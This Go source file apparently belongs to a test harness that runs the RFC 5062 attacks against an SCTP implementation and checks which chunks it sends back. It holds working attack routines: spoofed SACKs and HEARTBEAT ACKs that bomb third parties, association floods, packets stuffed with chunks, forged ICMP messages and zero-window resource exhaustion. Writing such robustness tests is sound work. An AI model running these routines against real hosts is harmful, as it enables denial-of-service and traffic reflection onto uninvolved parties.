//go:build linux

package main

import (
	"fmt"
	"net/netip"

	"github.com/rddp-go/rddp/sctp/wire"
)

// Whoever has an association may try to have the victim send much to others.
func bombAttacks(f *family) []attack {
	unconfirmed := []string{"INIT ACK", "COOKIE ACK", "HEARTBEAT", "HEARTBEAT ACK", "SACK", "DATA", "HEARTBEAT" + third}
	return []attack{
		{name: "bombing: much data asked for, acknowledged in the names of third parties", rfc: "5062 5",
			may: unconfirmed, echo: 1,
			start: func(x *attackEnv) (func(int) error, error) {
				p, err := x.openAssoc(x.victimPort(portSCTP), x.addrParams(7))
				if err != nil {
					return nil, err
				}
				p.silent = true // so that the victim looks for another way
				if err := p.sendMessage(askSource); err != nil {
					return nil, err
				}
				return func(i int) error {
					p.drainPackets()
					from := netip.AddrPortFrom(hostAddr(x.innocents, i%7), p.src.Port())
					if tBitOfOdd(i) { // a nonce is all that confirms an address
						return x.w.sendSCTP(from, x.victimPort(portSCTP), p.tag,
							wire.AppendHeartbeatAck(nil, guessedNonce(x, from.Addr())))
					}
					return x.w.sendSCTP(from, x.victimPort(portSCTP), p.tag,
						wire.AppendSack(nil, wire.SackFields{CumTSN: p.cum, ARwnd: 1 << 20}))
				}, nil
			}},
		{name: "bombing: HEARTBEATs to 7 unconfirmed addresses of each association", rfc: "5062 6, 9260 5.4",
			most: 3000,
			must: []string{"HEARTBEAT" + third}, may: unconfirmed, echo: 1,
			start: func(x *attackEnv) (func(int) error, error) {
				var list []*peer
				return func(int) error {
					p, err := x.openAssoc(x.victimPort(portSCTP), x.addrParams(7))
					if list = append(list, p); len(list) > 8 { // the last stay: a HEARTBEAT may come an RTO later
						list[0].abortAssoc()
						x.dropPeer(list[0])
						list = list[1:]
					}
					return err
				}, nil
			}},
		{name: "one packet with 90 unknown chunks to report", rfc: "5062 8, 9260 12.4", must: []string{"ERROR 6"},
			may: []string{"INIT ACK", "COOKIE ACK", "HEARTBEAT"},
			start: onOneAssoc("", func(_ *attackEnv, p *peer, _ int) error {
				var b []byte
				for range 90 {
					b = wire.AppendChunk(b, 0xFE, 0, uint32Octets(0)[:4])
				}
				return p.sendChunks(b)
			})},
		{name: "one packet with 90 HEARTBEATs", rfc: "5062 8", must: []string{"HEARTBEAT ACK"}, may: unconfirmed,
			start: onOneAssoc("", func(_ *attackEnv, p *peer, _ int) error {
				var b []byte
				for range 90 {
					b = wire.AppendHeartbeat(b, make([]byte, 4))
				}
				return p.sendChunks(b)
			})},
		{name: "one packet with 70 DATA chunks on streams that are not there", rfc: "5062 8, 9260 6.5", must: []string{"ERROR 1"},
			may: unconfirmed,
			start: onOneAssoc("", func(_ *attackEnv, p *peer, _ int) error {
				var b []byte
				for range 70 {
					b = p.appendData(b, whole, 1024, 0, 0, make([]byte, 4))
				}
				return p.sendChunks(b)
			})},
		{name: fmt.Sprintf("a path MTU of %d reported for one's own association, then 90 HEARTBEATs", f.leastMTU), rfc: "5062 10", must: []string{"HEARTBEAT ACK"},
			may: unconfirmed,
			start: onOneAssoc("", func(x *attackEnv, p *peer, i int) error {
				if i%100 == 0 {
					if err := x.w.sendICMP(hostAddr(x.attackers, 3), x.victimPort(portSCTP), p.src, x.tooBig,
						x.leastMTU,
						p.own); err != nil {
						return err
					}
				}
				var b []byte
				for range 90 {
					b = wire.AppendHeartbeat(b, make([]byte, 4))
				}
				return p.sendChunks(b)
			})},
		{name: f.protocol.name + " for one's own association that talks", rfc: "9260 10",
			must: []string{"HEARTBEAT ACK"}, may: unconfirmed,
			start: onOneAssoc("", func(x *attackEnv, p *peer, _ int) error {
				if err := x.w.sendICMP(hostAddr(x.attackers, 3), x.victimPort(portSCTP), p.src, x.protocol, 0,
					p.own); err != nil {
					return err
				}
				if err := p.sendChunks(wire.AppendHeartbeat(nil, make([]byte, 4))); err != nil {
					return err
				}
				_, err := p.waitForChunk(wire.ChunkHeartbeatAck)
				return err
			})},
		{name: "a window of 0 for a victim that sends without end", rfc: "9260 6.1", may: unconfirmed,
			start: onOneAssoc(askSource, func(_ *attackEnv, p *peer, _ int) error {
				p.rwnd = 0
				return p.sendChunks(wire.AppendSack(nil, wire.SackFields{CumTSN: p.cum}))
			})},
		{name: "a window of 1 octet for a victim that sends without end", rfc: "9260 6.1", may: unconfirmed,
			start: onOneAssoc(askSource, func(_ *attackEnv, p *peer, _ int) error {
				p.rwnd = 1
				return p.sendChunks(wire.AppendSack(nil, wire.SackFields{CumTSN: p.cum, ARwnd: 1}))
			})},
		{name: "associations that have data sent and take none of it, 50 a second", rfc: "5042 6.4.2", rate: 200,
			mass: 128 << 20,
			must: []string{"DATA"}, may: unconfirmed,
			start: withoutAssoc(func(x *attackEnv, _ int) error {
				p := x.newPeer(x.victimPort(portSCTP), nil)
				p.rwnd = 1500
				if err := p.connectAssoc(); err != nil {
					return err
				}
				p.silent = true
				return p.sendMessage(askSource)
			})},
	}
}
